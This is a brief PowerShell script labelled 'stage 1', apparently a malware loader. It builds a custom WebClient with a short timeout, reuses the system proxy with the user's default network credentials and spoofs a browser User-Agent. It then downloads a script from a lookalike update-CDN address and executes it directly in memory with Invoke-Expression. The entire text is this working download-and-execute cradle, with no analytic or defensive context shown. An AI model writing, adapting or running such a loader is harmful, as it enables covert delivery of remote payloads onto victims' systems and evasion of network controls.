# stage 1 - custom WebClient with a short timeout, picks up the system proxy
$src = @"
using System.Net;
public class TimedClient : WebClient {
    protected override WebRequest GetWebRequest(System.Uri address) {
        WebRequest r = base.GetWebRequest(address);
        r.Timeout = 8000;
        return r;
    }
}
"@
Add-Type -TypeDefinition $src
$wc = New-Object TimedClient
$wc.Proxy = [System.Net.WebRequest]::GetSystemWebProxy()
$wc.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials
$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
$payload = $wc.DownloadString('https://cdn-update.azureedge.example/s/a.ps1')
Invoke-Expression $payload
